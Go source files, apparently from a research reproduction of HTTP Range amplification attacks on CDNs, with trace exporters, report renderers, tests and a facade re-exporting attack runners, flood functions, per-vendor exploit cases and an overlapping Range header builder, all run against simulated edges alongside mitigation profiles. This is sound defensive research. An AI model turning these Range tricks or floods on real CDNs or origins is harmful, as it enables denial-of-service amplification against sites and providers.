// Exporters for completed traces: Chrome trace-event JSON (loadable in
// Perfetto / chrome://tracing), a plain-text waterfall, a structural
// tree renderer stable enough to pin in golden tests, and an HTTP
// handler serving all of them at /debug/traces.
package trace

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strings"
	"time"
)

// chromeEvent is one entry of the Chrome trace-event format. Spans are
// "X" (complete) events with microsecond ts/dur; span events are "i"
// (instant) events; node names become thread-name metadata ("M").
type chromeEvent struct {
	Name string         `json:"name"`
	Cat  string         `json:"cat,omitempty"`
	Ph   string         `json:"ph"`
	Ts   float64        `json:"ts"`
	Dur  *float64       `json:"dur,omitempty"`
	Pid  int            `json:"pid"`
	Tid  int            `json:"tid"`
	S    string         `json:"s,omitempty"`
	Args map[string]any `json:"args,omitempty"`
}

type chromeFile struct {
	TraceEvents     []chromeEvent `json:"traceEvents"`
	DisplayTimeUnit string        `json:"displayTimeUnit"`
}

func usec(d time.Duration) float64 { return float64(d.Nanoseconds()) / 1e3 }

// WriteChromeTrace writes the traces as one Chrome trace-event JSON
// document. Each node gets its own track (tid); every trace shares
// pid 1 so Perfetto lays the hops of one request under each other.
func WriteChromeTrace(w io.Writer, traces []*Trace) error {
	tids := map[string]int{}
	tidOf := func(node string) int {
		if id, ok := tids[node]; ok {
			return id
		}
		id := len(tids) + 1
		tids[node] = id
		return id
	}
	file := chromeFile{TraceEvents: []chromeEvent{}, DisplayTimeUnit: "ms"}
	for _, tr := range traces {
		for _, s := range tr.Spans {
			tid := tidOf(s.Node)
			args := map[string]any{
				"trace_id": s.Trace.String(),
				"span_id":  s.ID.String(),
			}
			if s.Parent != 0 {
				args["parent_id"] = s.Parent.String()
			}
			for _, a := range s.Attrs {
				if a.IsInt {
					args[a.Key] = a.Int
				} else {
					args[a.Key] = a.Str
				}
			}
			dur := usec(s.Finish - s.Start)
			file.TraceEvents = append(file.TraceEvents, chromeEvent{
				Name: s.Name, Cat: s.Node, Ph: "X",
				Ts: usec(s.Start), Dur: &dur,
				Pid: 1, Tid: tid, Args: args,
			})
			for _, e := range s.Events {
				file.TraceEvents = append(file.TraceEvents, chromeEvent{
					Name: string(e.Kind), Cat: s.Node, Ph: "i",
					Ts: usec(e.Offset), Pid: 1, Tid: tid, S: "t",
					Args: map[string]any{"detail": e.Detail, "span_id": s.ID.String()},
				})
			}
		}
	}
	// Thread-name metadata, in stable tid order.
	nodes := make([]string, 0, len(tids))
	for node := range tids {
		nodes = append(nodes, node)
	}
	sort.Slice(nodes, func(i, j int) bool { return tids[nodes[i]] < tids[nodes[j]] })
	for _, node := range nodes {
		file.TraceEvents = append(file.TraceEvents, chromeEvent{
			Name: "thread_name", Ph: "M", Pid: 1, Tid: tids[node],
			Args: map[string]any{"name": node},
		})
	}
	enc := json.NewEncoder(w)
	return enc.Encode(file)
}

// children indexes a trace's spans by parent, preserving start order,
// and returns the top-level spans (no in-trace parent).
func children(tr *Trace) (tops []*Span, kids map[SpanID][]*Span) {
	ids := make(map[SpanID]bool, len(tr.Spans))
	for _, s := range tr.Spans {
		ids[s.ID] = true
	}
	kids = make(map[SpanID][]*Span)
	for _, s := range tr.Spans {
		if s.Parent != 0 && ids[s.Parent] {
			kids[s.Parent] = append(kids[s.Parent], s)
		} else {
			tops = append(tops, s)
		}
	}
	return tops, kids
}

// treeAttrs are the attributes stable across runs (no byte counts or
// durations), rendered by Tree for golden pinning.
var treeAttrs = []string{"vendor", "range", "status", "n"}

// Tree renders the trace's structure — node, name, stable attributes,
// event kinds — deterministically: no ids, offsets, or byte counts.
func (tr *Trace) Tree() string {
	var b strings.Builder
	tops, kids := children(tr)
	var walk func(s *Span, depth int)
	walk = func(s *Span, depth int) {
		b.WriteString(strings.Repeat("  ", depth))
		b.WriteString(s.Node)
		b.WriteByte(' ')
		b.WriteString(s.Name)
		for _, key := range treeAttrs {
			if v := s.Attr(key); v != "" {
				fmt.Fprintf(&b, " %s=%s", key, v)
			}
		}
		if len(s.Events) > 0 {
			b.WriteString(" (")
			for i, e := range s.Events {
				if i > 0 {
					b.WriteByte(' ')
				}
				b.WriteString(string(e.Kind))
			}
			b.WriteByte(')')
		}
		b.WriteByte('\n')
		for _, c := range kids[s.ID] {
			walk(c, depth+1)
		}
	}
	for _, s := range tops {
		walk(s, 0)
	}
	return b.String()
}

// barWidth is the waterfall bar's character budget per trace.
const barWidth = 32

// Waterfall renders one trace as an indented timeline: each line is a
// span with its offset window, a proportional bar, and the byte/status
// attributes that make Laziness vs Deletion upstream behaviour visible.
func (tr *Trace) Waterfall() string {
	var b strings.Builder
	total := tr.Duration()
	if total <= 0 {
		total = time.Microsecond
	}
	base := time.Duration(1<<63 - 1)
	for _, s := range tr.Spans {
		if s.Start < base {
			base = s.Start
		}
	}
	fmt.Fprintf(&b, "trace %s — %d spans, %s\n", tr.ID, len(tr.Spans), tr.Duration().Round(time.Microsecond))
	tops, kids := children(tr)
	var walk func(s *Span, depth int)
	walk = func(s *Span, depth int) {
		start := s.Start - base
		dur := s.Finish - s.Start
		lead := int(int64(barWidth) * int64(start) / int64(total))
		width := int(int64(barWidth) * int64(dur) / int64(total))
		if width < 1 {
			width = 1
		}
		if lead+width > barWidth {
			width = barWidth - lead
		}
		bar := strings.Repeat(" ", lead) + strings.Repeat("=", width) +
			strings.Repeat(" ", barWidth-lead-width)
		label := strings.Repeat("  ", depth) + s.Node
		fmt.Fprintf(&b, "  %-24s |%s| %8s +%-8s %s\n",
			label, bar,
			start.Round(time.Microsecond), dur.Round(time.Microsecond),
			spanSummary(s))
		for _, c := range kids[s.ID] {
			walk(c, depth+1)
		}
	}
	for _, s := range tops {
		walk(s, 0)
	}
	return b.String()
}

// spanSummary renders the span name plus the attributes a reader scans
// for on a timeline.
func spanSummary(s *Span) string {
	var b strings.Builder
	b.WriteString(s.Name)
	for _, key := range []string{"range", "status", "bytes_up", "bytes_down"} {
		if v := s.Attr(key); v != "" {
			fmt.Fprintf(&b, " %s=%s", key, v)
		}
	}
	return b.String()
}

// WriteWaterfall renders every trace as a text waterfall.
func WriteWaterfall(w io.Writer, traces []*Trace) error {
	for i, tr := range traces {
		if i > 0 {
			if _, err := io.WriteString(w, "\n"); err != nil {
				return err
			}
		}
		if _, err := io.WriteString(w, tr.Waterfall()); err != nil {
			return err
		}
	}
	return nil
}

// Handler serves the tracer's completed traces: Chrome trace-event
// JSON by default (curl /debug/traces > out.json; open in Perfetto),
// or a text waterfall with ?format=text.
func (t *Tracer) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		traces := t.Traces()
		if r.URL.Query().Get("format") == "text" {
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
			if len(traces) == 0 {
				fmt.Fprintln(w, "no completed traces (is -trace-sample > 0?)")
				return
			}
			_ = WriteWaterfall(w, traces)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_ = WriteChromeTrace(w, traces)
	})
}
