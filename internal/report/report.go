// Package report renders the experiments' tables and figure series as
// aligned text (the cmd/rangeamp output) and CSV.
package report

import (
	"fmt"
	"io"
	"strings"
)

// Table is a titled grid of cells.
type Table struct {
	Title   string
	Slug    string // short machine-usable name for filenames; "" = slugified Title
	Columns []string
	Rows    [][]string
}

// FileSlug returns the table's file-name slug, deriving one from the
// title when no explicit Slug was set.
func (t *Table) FileSlug() string {
	if t.Slug != "" {
		return t.Slug
	}
	return Slugify(t.Title)
}

// AddRow appends one row; short rows are padded with empty cells.
func (t *Table) AddRow(cells ...string) {
	for len(cells) < len(t.Columns) {
		cells = append(cells, "")
	}
	t.Rows = append(t.Rows, cells)
}

// Render writes the table as aligned text.
func (t *Table) Render(w io.Writer) error {
	widths := make([]int, len(t.Columns))
	for i, c := range t.Columns {
		widths[i] = len(c)
	}
	for _, row := range t.Rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	var b strings.Builder
	if t.Title != "" {
		b.WriteString(t.Title)
		b.WriteByte('\n')
		b.WriteString(strings.Repeat("=", len(t.Title)))
		b.WriteByte('\n')
	}
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(cell)
			if i < len(cells)-1 {
				b.WriteString(strings.Repeat(" ", widths[i]-len(cell)))
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.Columns)
	sep := make([]string, len(t.Columns))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
	b.WriteByte('\n')
	_, err := io.WriteString(w, b.String())
	return err
}

// RenderCSV writes the table as CSV (quoting cells that need it).
func (t *Table) RenderCSV(w io.Writer) error {
	var b strings.Builder
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				b.WriteByte(',')
			}
			if strings.ContainsAny(cell, ",\"\n") {
				b.WriteByte('"')
				b.WriteString(strings.ReplaceAll(cell, `"`, `""`))
				b.WriteByte('"')
			} else {
				b.WriteString(cell)
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.Columns)
	for _, row := range t.Rows {
		writeRow(row)
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// Series is one figure curve: x/y pairs with a name.
type Series struct {
	Name string
	X    []float64
	Y    []float64
}

// Figure is a set of curves sharing axes, mirroring one paper figure.
type Figure struct {
	Title  string
	Slug   string // short machine-usable name for filenames; "" = slugified Title
	XLabel string
	YLabel string
	Series []Series
}

// FileSlug returns the figure's file-name slug, deriving one from the
// title when no explicit Slug was set.
func (f *Figure) FileSlug() string {
	if f.Slug != "" {
		return f.Slug
	}
	return Slugify(f.Title)
}

// table converts the figure to its column-table form: one x column and
// one column per series, suitable for replotting.
func (f *Figure) table() *Table {
	t := &Table{Title: fmt.Sprintf("%s  (x=%s, y=%s)", f.Title, f.XLabel, f.YLabel)}
	t.Columns = append(t.Columns, f.XLabel)
	for _, s := range f.Series {
		t.Columns = append(t.Columns, s.Name)
	}
	if len(f.Series) > 0 {
		for i := range f.Series[0].X {
			row := []string{trimFloat(f.Series[0].X[i])}
			for _, s := range f.Series {
				if i < len(s.Y) {
					row = append(row, trimFloat(s.Y[i]))
				} else {
					row = append(row, "")
				}
			}
			t.Rows = append(t.Rows, row)
		}
	}
	return t
}

// Render writes the figure as a column table.
func (f *Figure) Render(w io.Writer) error { return f.table().Render(w) }

// RenderCSV writes the figure's column table as CSV.
func (f *Figure) RenderCSV(w io.Writer) error { return f.table().RenderCSV(w) }

// Slugify lowers s to a file-name-safe dash-separated slug.
func Slugify(s string) string {
	var b strings.Builder
	dash := true // suppress leading dashes
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z' || r >= '0' && r <= '9':
			b.WriteRune(r)
			dash = false
		case r >= 'A' && r <= 'Z':
			b.WriteRune(r + ('a' - 'A'))
			dash = false
		default:
			if !dash {
				b.WriteByte('-')
				dash = true
			}
		}
	}
	return strings.TrimRight(b.String(), "-")
}

func trimFloat(v float64) string {
	s := fmt.Sprintf("%.2f", v)
	s = strings.TrimRight(s, "0")
	return strings.TrimRight(s, ".")
}

// RenderMarkdown writes the table as a GitHub-flavoured markdown table
// (the format EXPERIMENTS.md embeds).
func (t *Table) RenderMarkdown(w io.Writer) error {
	var b strings.Builder
	if t.Title != "" {
		b.WriteString("### ")
		b.WriteString(t.Title)
		b.WriteString("\n\n")
	}
	writeRow := func(cells []string) {
		b.WriteString("|")
		for _, cell := range cells {
			b.WriteByte(' ')
			b.WriteString(strings.ReplaceAll(cell, "|", "\\|"))
			b.WriteString(" |")
		}
		b.WriteByte('\n')
	}
	writeRow(t.Columns)
	sep := make([]string, len(t.Columns))
	for i := range sep {
		sep[i] = "---"
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
	b.WriteByte('\n')
	_, err := io.WriteString(w, b.String())
	return err
}
