package report

import (
	"strings"
	"testing"
)

func sample() *Table {
	t := &Table{
		Title:   "TABLE IV",
		Columns: []string{"CDN", "Factor"},
	}
	t.AddRow("Akamai", "43093")
	t.AddRow("G-Core Labs") // short row padded
	return t
}

func TestTableRender(t *testing.T) {
	var b strings.Builder
	if err := sample().Render(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"TABLE IV", "CDN", "Factor", "Akamai", "43093", "G-Core Labs", "---"} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q:\n%s", want, out)
		}
	}
	// Columns align: "Akamai" padded to the width of "G-Core Labs".
	if !strings.Contains(out, "Akamai       43093") {
		t.Errorf("alignment broken:\n%s", out)
	}
}

func TestTableRenderCSV(t *testing.T) {
	tab := sample()
	tab.AddRow(`quoted,"cell"`, "v")
	var b strings.Builder
	if err := tab.RenderCSV(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasPrefix(out, "CDN,Factor\n") {
		t.Errorf("csv header: %q", out)
	}
	if !strings.Contains(out, `"quoted,""cell""",v`) {
		t.Errorf("csv quoting: %q", out)
	}
}

func TestFigureRender(t *testing.T) {
	f := &Figure{
		Title:  "Fig 6a",
		XLabel: "MB",
		YLabel: "factor",
		Series: []Series{
			{Name: "akamai", X: []float64{1, 2}, Y: []float64{1707, 3400}},
			{Name: "azure", X: []float64{1, 2}, Y: []float64{1401}},
		},
	}
	var b strings.Builder
	if err := f.Render(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"Fig 6a", "akamai", "azure", "1707", "3400"} {
		if !strings.Contains(out, want) {
			t.Errorf("figure missing %q:\n%s", want, out)
		}
	}
}

func TestFigureRenderEmpty(t *testing.T) {
	var b strings.Builder
	if err := (&Figure{Title: "empty"}).Render(&b); err != nil {
		t.Fatal(err)
	}
}

func TestTrimFloat(t *testing.T) {
	tests := []struct {
		v    float64
		want string
	}{
		{1, "1"},
		{1.5, "1.5"},
		{1.25, "1.25"},
		{1.256, "1.26"},
		{1707.0, "1707"},
	}
	for _, tt := range tests {
		if got := trimFloat(tt.v); got != tt.want {
			t.Errorf("trimFloat(%v) = %q, want %q", tt.v, got, tt.want)
		}
	}
}

func TestTableRenderMarkdown(t *testing.T) {
	tab := sample()
	tab.AddRow("pipe|cell", "v")
	var b strings.Builder
	if err := tab.RenderMarkdown(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"### TABLE IV", "| CDN | Factor |", "| --- | --- |", "| Akamai | 43093 |", `pipe\|cell`} {
		if !strings.Contains(out, want) {
			t.Errorf("markdown missing %q:\n%s", want, out)
		}
	}
}
