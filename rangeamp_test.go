package rangeamp

import (
	"context"
	"errors"
	"strings"
	"testing"
)

// The root package is a facade; these tests exercise the public API
// surface the examples and README rely on.

func TestPublicQuickstartFlow(t *testing.T) {
	store := NewStore()
	store.AddSynthetic("/video.bin", 1<<20, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	result, err := RunSBR(topo, "/video.bin", 1<<20, "api-test")
	if err != nil {
		t.Fatal(err)
	}
	if f := result.Amplification.Factor(); f < 500 {
		t.Errorf("factor = %.0f, want > 500 at 1MB", f)
	}
}

func TestPublicOBRFlow(t *testing.T) {
	store := NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	topo, err := NewOBRTopology(Cloudflare(), Akamai(), store)
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	result, err := RunOBR(topo, "/1KB.bin", 100)
	if err != nil {
		t.Fatal(err)
	}
	if result.Parts != 100 {
		t.Errorf("parts = %d", result.Parts)
	}
	if f := result.Amplification.Factor(); f < 30 {
		t.Errorf("factor = %.1f, want > 30 at n=100", f)
	}
}

func TestVendorAccessors(t *testing.T) {
	if len(Vendors()) != 13 || len(VendorNames()) != 13 {
		t.Error("vendor sets incomplete")
	}
	constructors := []func() *Profile{
		Akamai, AlibabaCloud, Azure, CDN77, CDNsun, Cloudflare,
		CloudFront, Fastly, GCoreLabs, HuaweiCloud, KeyCDN, StackPath, TencentCloud,
	}
	for _, ctor := range constructors {
		p := ctor()
		if p == nil || p.Name == "" {
			t.Errorf("constructor returned incomplete profile: %+v", p)
			continue
		}
		got, ok := VendorByName(p.Name)
		if !ok || got.DisplayName != p.DisplayName {
			t.Errorf("VendorByName(%q) mismatch", p.Name)
		}
	}
}

func TestMitigationConstructors(t *testing.T) {
	base := Cloudflare()
	for _, m := range []*Profile{
		MitigateLaziness(base),
		MitigateBoundedExpansion(base, 8<<10),
		MitigateRejectOverlap(base),
		MitigateCoalesce(base),
	} {
		if m.Name == base.Name {
			t.Errorf("mitigated profile %q did not rename", m.Name)
		}
	}
}

func TestPublicContextFlow(t *testing.T) {
	store := NewStore()
	store.AddSynthetic("/video.bin", 1<<20, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	result, err := RunSBRContext(context.Background(), topo, "/video.bin", 1<<20, "ctx-test")
	if err != nil {
		t.Fatal(err)
	}
	if f := result.Amplification.Factor(); f < 500 {
		t.Errorf("factor = %.0f, want > 500 at 1MB", f)
	}

	cancelled, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := RunSBRContext(cancelled, topo, "/video.bin", 1<<20, "ctx-dead"); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled RunSBRContext err = %v", err)
	}
	if _, err := RunSBRFloodContext(cancelled, topo, "/video.bin", 1<<20, 2, 2); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled RunSBRFloodContext err = %v", err)
	}
}

func TestPublicTraceSurface(t *testing.T) {
	tracer := NewTracer(TracerConfig{SampleEvery: 1})
	store := NewStore()
	store.AddSynthetic("/video.bin", 64<<10, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true, Trace: tracer})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	if _, err := RunSBR(topo, "/video.bin", 64<<10, "trace-test"); err != nil {
		t.Fatal(err)
	}
	traces := tracer.Traces()
	if len(traces) != 1 {
		t.Fatalf("completed traces = %d, want 1", len(traces))
	}
	var tr *Trace = traces[0]
	if len(tr.Spans) < 3 {
		t.Fatalf("span tree has %d spans, want attacker+edge+origin(+fetch):\n%s",
			len(tr.Spans), tr.Tree())
	}
	var root *Span = tr.Root()
	if root == nil || root.Node != "attacker" {
		t.Fatalf("root span = %+v", root)
	}
	var sc SpanContext = root.Context()
	if !sc.Valid() {
		t.Error("root span context invalid")
	}
	edge := tr.Spans[1]
	if edge.EventCount(TraceRequest) == 0 {
		t.Errorf("edge span missing request event:\n%s", tr.Tree())
	}
	var ev TraceEvent = edge.Events[0]
	var k TraceKind = ev.Kind
	if k != TraceRequest {
		t.Errorf("first edge event kind = %q", k)
	}
	if !strings.Contains(tr.Waterfall(), "attacker") {
		t.Error("waterfall rendering broken")
	}
}

func TestPublicMetricsSurface(t *testing.T) {
	before := DefaultMetrics.Snapshot()
	store := NewStore()
	store.AddSynthetic("/video.bin", 64<<10, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	if _, err := RunSBR(topo, "/video.bin", 64<<10, "metrics-test"); err != nil {
		t.Fatal(err)
	}
	var d *MetricsSnapshot = DefaultMetrics.Snapshot().Delta(before)
	if got := d.Value("cdn_requests_total", MetricsLabel{Key: "vendor", Value: "cloudflare"}); got != 1 {
		t.Errorf("cdn_requests_total delta = %d, want 1", got)
	}
	var b strings.Builder
	if err := DefaultMetrics.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "# TYPE cdn_requests_total counter") {
		t.Error("Prometheus exposition missing edge counter family")
	}
}

func TestSBRExploitSurface(t *testing.T) {
	c := SBRExploit("keycdn", 1<<20)
	if c.Repeat != 2 {
		t.Errorf("KeyCDN repeat = %d", c.Repeat)
	}
	if BuildOverlappingRange(OBRFirstToken("cdnsun"), 2) != "bytes=1-,0-" {
		t.Error("OBR builder surface broken")
	}
}
