package rangeamp

import "testing"

// The root package is a facade; these tests exercise the public API
// surface the examples and README rely on.

func TestPublicQuickstartFlow(t *testing.T) {
	store := NewStore()
	store.AddSynthetic("/video.bin", 1<<20, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	result, err := RunSBR(topo, "/video.bin", 1<<20, "api-test")
	if err != nil {
		t.Fatal(err)
	}
	if f := result.Amplification.Factor(); f < 500 {
		t.Errorf("factor = %.0f, want > 500 at 1MB", f)
	}
}

func TestPublicOBRFlow(t *testing.T) {
	store := NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	topo, err := NewOBRTopology(Cloudflare(), Akamai(), store)
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()
	result, err := RunOBR(topo, "/1KB.bin", 100)
	if err != nil {
		t.Fatal(err)
	}
	if result.Parts != 100 {
		t.Errorf("parts = %d", result.Parts)
	}
	if f := result.Amplification.Factor(); f < 30 {
		t.Errorf("factor = %.1f, want > 30 at n=100", f)
	}
}

func TestVendorAccessors(t *testing.T) {
	if len(Vendors()) != 13 || len(VendorNames()) != 13 {
		t.Error("vendor sets incomplete")
	}
	constructors := []func() *Profile{
		Akamai, AlibabaCloud, Azure, CDN77, CDNsun, Cloudflare,
		CloudFront, Fastly, GCoreLabs, HuaweiCloud, KeyCDN, StackPath, TencentCloud,
	}
	for _, ctor := range constructors {
		p := ctor()
		if p == nil || p.Name == "" {
			t.Errorf("constructor returned incomplete profile: %+v", p)
			continue
		}
		got, ok := VendorByName(p.Name)
		if !ok || got.DisplayName != p.DisplayName {
			t.Errorf("VendorByName(%q) mismatch", p.Name)
		}
	}
}

func TestMitigationConstructors(t *testing.T) {
	base := Cloudflare()
	for _, m := range []*Profile{
		MitigateLaziness(base),
		MitigateBoundedExpansion(base, 8<<10),
		MitigateRejectOverlap(base),
		MitigateCoalesce(base),
	} {
		if m.Name == base.Name {
			t.Errorf("mitigated profile %q did not rename", m.Name)
		}
	}
}

func TestSBRExploitSurface(t *testing.T) {
	c := SBRExploit("keycdn", 1<<20)
	if c.Repeat != 2 {
		t.Errorf("KeyCDN repeat = %d", c.Repeat)
	}
	if BuildOverlappingRange(OBRFirstToken("cdnsun"), 2) != "bytes=1-,0-" {
		t.Error("OBR builder surface broken")
	}
}
