// Package rangeamp is a laptop-scale reproduction of "CDN Backfired:
// Amplification Attacks Based on HTTP Range Requests" (DSN 2020). It
// implements the paper's two attacks — the Small Byte Range (SBR)
// attack and the Overlapping Byte Ranges (OBR) attack — against
// simulated edges of the 13 CDNs the paper studied, over an
// instrumented in-memory network that counts exact per-segment bytes.
//
// Quick start:
//
//	store := rangeamp.NewStore()
//	store.AddSynthetic("/video.bin", 10<<20, "application/octet-stream")
//	topo, err := rangeamp.NewSBRTopology(rangeamp.Cloudflare(), store, rangeamp.SBROptions{OriginRangeSupport: true})
//	if err != nil { ... }
//	defer topo.Close()
//	result, err := rangeamp.RunSBR(topo, "/video.bin", 10<<20, "cb0")
//	fmt.Printf("amplification: %.0fx\n", result.Amplification.Factor())
//
// The experiments (Tables I-V, Figs 6-7, and the extension studies)
// live in a registry: LookupExperiment/RunExperiment resolve them by
// name, typed entry points (Table1 … Table5, SBRSweep, Bandwidth,
// Mitigations) remain for direct calls, and cmd/rangeamp drives the
// registry from the command line with a parallel vendor scheduler.
package rangeamp

import (
	"repro/internal/campaign"
	"repro/internal/cdn"
	"repro/internal/core"
	"repro/internal/exp"
	"repro/internal/measure"
	"repro/internal/metrics"
	"repro/internal/obs"
	"repro/internal/report"
	"repro/internal/resource"
	"repro/internal/trace"
	"repro/internal/vendor"
)

// Re-exported core types. The aliases keep one import path for
// downstream users while the implementation stays in internal packages.
type (
	// SBRTopology is the Fig 3a arrangement: client -> CDN -> origin.
	SBRTopology = core.SBRTopology
	// OBRTopology is the Fig 3b arrangement: client -> FCDN -> BCDN -> origin.
	OBRTopology = core.OBRTopology
	// SBROptions tunes an SBR topology.
	SBROptions = core.SBROptions
	// SBRCase is a vendor's exploited Range case (Table IV column 2).
	SBRCase = core.SBRCase
	// SBRResult is one SBR attack measurement.
	SBRResult = core.SBRResult
	// OBRCase is a cascade's exploited multi-range case (Table V column 3).
	OBRCase = core.OBRCase
	// OBRResult is one OBR attack measurement.
	OBRResult = core.OBRResult
	// Profile describes one CDN's range handling (Tables I-III).
	Profile = vendor.Profile
	// Amplification is a victim/attacker response-traffic ratio.
	Amplification = measure.Amplification
	// Store holds the origin's resources.
	Store = resource.Store
	// Table is a rendered experiment table.
	Table = report.Table
	// Figure is a rendered experiment figure.
	Figure = report.Figure
	// BandwidthConfig parameterizes the Fig 7 experiment.
	BandwidthConfig = exp.BandwidthConfig
	// SBRSweepResult is the Table IV / Fig 6 sweep output.
	SBRSweepResult = exp.SBRSweepResult
	// FloodResult aggregates a concurrent SBR flood (§V-D).
	FloodResult = core.FloodResult
	// FloodOptions tunes a flood's connection economy (keep-alive sessions).
	FloodOptions = core.FloodOptions
	// PoolConfig tunes an edge's persistent upstream connection pool
	// (SBROptions.UpstreamPool / OBROptions.UpstreamPool).
	PoolConfig = cdn.PoolConfig
	// CorpusReport is the ABNF corpus audit output.
	CorpusReport = core.CorpusReport
	// Experiment is one registered paper experiment.
	Experiment = exp.Experiment
	// ExperimentParams carries the run-time knobs every experiment takes.
	ExperimentParams = exp.Params
	// ExperimentResult is a registered experiment's rendered output.
	ExperimentResult = exp.Result
)

// Topology construction and attack execution. Each Run* has a
// context-complete Run*Context form honouring cancellation between
// attack hops; the plain names run under context.Background().
var (
	NewSBRTopology       = core.NewSBRTopology
	NewOBRTopology       = core.NewOBRTopology
	NewOBRTopologyOpts   = core.NewOBRTopologyOpts
	RunSBR               = core.RunSBR
	RunOBR               = core.RunOBR
	RunOBRAborted        = core.RunOBRAborted
	RunSBRFlood          = core.RunSBRFlood
	RunSBRFloodKeepAlive = core.RunSBRFloodKeepAlive
	RunSBROverH2         = core.RunSBROverH2
	PrimeSizeHint        = core.PrimeSizeHint
	SBRExploit           = core.SBRExploit
	PlanMaxN             = core.PlanMaxN
	OBRFirstToken        = core.OBRFirstToken

	RunSBRContext = core.RunSBRContext
	RunOBRContext = core.RunOBRContext
	// RunSBRCase is RunSBRContext with an explicit Range case instead of
	// the vendor's exploited default.
	RunSBRCase = core.RunSBRCase
	// RunSBRFloodOpts is the canonical flood entry point; the positional
	// flood functions above are deprecated wrappers around it.
	RunSBRFloodOpts        = core.RunSBRFloodOpts
	RunSBRFloodContext     = core.RunSBRFloodContext
	RunSBRFloodOptsContext = core.RunSBRFloodOptsContext

	// BuildOverlappingRange renders "bytes=<first>,0-,0-,…" with n ranges.
	BuildOverlappingRange = core.BuildOverlappingRange
)

// Observability: the span tracer (SBROptions.Trace / OBROptions.Trace)
// and the process-wide metrics registry every engine reports into.
type (
	// Tracer samples request roots and assembles per-request span trees
	// (attacker -> edge -> origin), keeping completed traces in a
	// bounded ring for export.
	Tracer = trace.Tracer
	// TracerConfig sets a Tracer's 1/N head sampling and ring capacity.
	TracerConfig = trace.Config
	// Span is one node's share of a request tree.
	Span = trace.Span
	// SpanContext is a span's propagated identity (traceparent header).
	SpanContext = trace.SpanContext
	// Trace is one completed request tree.
	Trace = trace.Trace
	// TraceEvent is one recorded engine step on a span.
	TraceEvent = trace.Event
	// TraceKind classifies a TraceEvent.
	TraceKind = trace.Kind
	// OBROptions tunes an OBR topology.
	OBROptions = core.OBROptions

	// Runtime is one run's environment: the metrics registry, tracer,
	// resource store and clock a topology resolves against instead of
	// the process-wide defaults. Hang one off SBROptions.Runtime /
	// OBROptions.Runtime, or ExperimentParams.Runtime to pin an
	// experiment run; nil fields fall back to the defaults.
	Runtime = exp.Runtime

	// Metrics is a registry of counters, gauges and histograms.
	Metrics = metrics.Registry
	// MetricsSnapshot is a point-in-time copy of a registry, diffable
	// with its Delta method the way measure probes diff segments.
	MetricsSnapshot = metrics.Snapshot
	// MetricsSample is one series' state inside a MetricsSnapshot.
	MetricsSample = metrics.Sample
	// MetricsLabel is one key=value dimension of a metric series.
	MetricsLabel = metrics.Label
)

// Trace event kinds emitted by the engines.
const (
	TraceRequest   = trace.KindRequest
	TraceRejected  = trace.KindRejected
	TraceCacheHit  = trace.KindCacheHit
	TraceCacheMiss = trace.KindCacheMiss
	TraceUpstream  = trace.KindUpstream
	TraceRelay     = trace.KindRelay
	TraceReply     = trace.KindReply
	TracePool      = trace.KindPool
	TraceCollapse  = trace.KindCollapse
)

// NewTracer returns a tracer to hang off SBROptions.Trace or
// OBROptions.Trace. A zero TracerConfig yields a disabled tracer;
// SampleEvery: 1 records every request root.
func NewTracer(cfg TracerConfig) *Tracer { return trace.New(cfg) }

// NewRuntime returns a fresh isolated Runtime: its own metrics
// registry, a disabled tracer and a fresh resource store. Experiment
// runs given no explicit Runtime build one of these per run, which is
// what makes concurrent runs' Stats deltas independent.
func NewRuntime() *Runtime { return exp.NewRuntime() }

// DefaultTracer is the process-wide tracer topologies fall back to when
// no explicit Tracer is configured. It is disabled until configured;
// the cmd tools enable it from their -trace flags.
var DefaultTracer = trace.Default

// TraceHeader is the propagation header attack clients inject and the
// simulated hops re-inject upstream ("traceparent").
const TraceHeader = trace.Header

// DefaultMetrics is the process-wide registry the simulation engines
// record into; cmd/origind and cmd/cdnsim expose it at /metrics.
var DefaultMetrics = metrics.Default

